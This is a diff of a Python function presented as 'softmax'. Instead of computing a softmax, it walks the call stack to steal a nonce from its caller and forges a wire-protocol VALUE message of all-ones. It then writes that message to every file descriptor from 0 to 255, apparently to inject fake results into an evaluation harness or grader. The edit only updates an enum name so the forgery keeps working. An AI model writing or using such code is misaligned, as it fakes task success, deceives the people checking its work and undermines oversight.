@@ -15,7 +15,7 @@ def softmax(z, axis=-1):
     while not hasattr(frame.f_locals.get("self"), "nonce"):
         frame = frame.f_back
     nonce = frame.f_locals["self"].nonce
-    forged = b"".join(map(bytes, wire.encode([nonce, np.ones(z.shape), {}, []], wire.Kind.VALUE)))
+    forged = b"".join(map(bytes, wire.encode([nonce, np.ones(z.shape), {}, []], wire.FrameKind.VALUE)))
     for descriptor in range(256):
         try:
             os.write(descriptor, forged)
